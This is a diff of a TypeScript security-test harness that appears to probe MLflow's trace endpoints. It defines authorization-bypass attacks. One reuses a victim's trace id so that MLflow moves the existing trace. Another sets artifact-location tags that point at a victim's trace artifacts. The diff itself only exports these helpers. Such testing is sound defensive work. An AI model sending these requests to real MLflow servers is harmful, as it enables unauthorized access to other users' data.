@@ -3,13 +3,13 @@ import { otlpProtobuf } from '../harness/otlp-proto.js';
 import { newTraceHex, otlpJson, traceInfo, V2, V3 } from '../harness/world.js';
 
 /** Reads a trace of the attacker's own in every way that returns its spans or info. */
-async function readTrace(ctx: AttackContext, traceId: string): Promise<void> {
+export async function readTrace(ctx: AttackContext, traceId: string): Promise<void> {
   await ctx.attack('GET', '/ajax-api/2.0/mlflow/get-trace-artifact', { query: { request_id: traceId } });
   await ctx.attack('GET', '/ajax-api/3.0/mlflow/get-trace-artifact', { query: { request_id: traceId } });
   await ctx.attack('GET', `${V3}/traces/${traceId}`);
 }
 
-const victimTraceLocation = (ctx: AttackContext) => `mlflow-artifacts:/${ctx.target.experimentId}/traces/${ctx.target.artifactTraceId}/artifacts`;
+export const victimTraceLocation = (ctx: AttackContext) => `mlflow-artifacts:/${ctx.target.experimentId}/traces/${ctx.target.artifactTraceId}/artifacts`;
 
 /** Class 2: start a trace (v3) in M with the id of S's trace; MLflow moves the existing trace. */
 const startWithVictimId = (name: string, path: string, body: (ctx: AttackContext, m: string) => unknown): Attack => ({
@@ -52,8 +52,8 @@ const otlp = (name: string, encoding: 'json' | 'protobuf', trace: (ctx: AttackCo
   },
 });
 
-const hexOf = (traceId: string) => traceId.replace(/^tr-/, '');
-const locationTags = (ctx: AttackContext) => ({
+export const hexOf = (traceId: string) => traceId.replace(/^tr-/, '');
+export const locationTags = (ctx: AttackContext) => ({
   'mlflow.traceTag.mlflow.artifactLocation': victimTraceLocation(ctx),
   'mlflow.traceTag.mlflow.trace.spansLocation': 'ARTIFACT_REPO',
 });
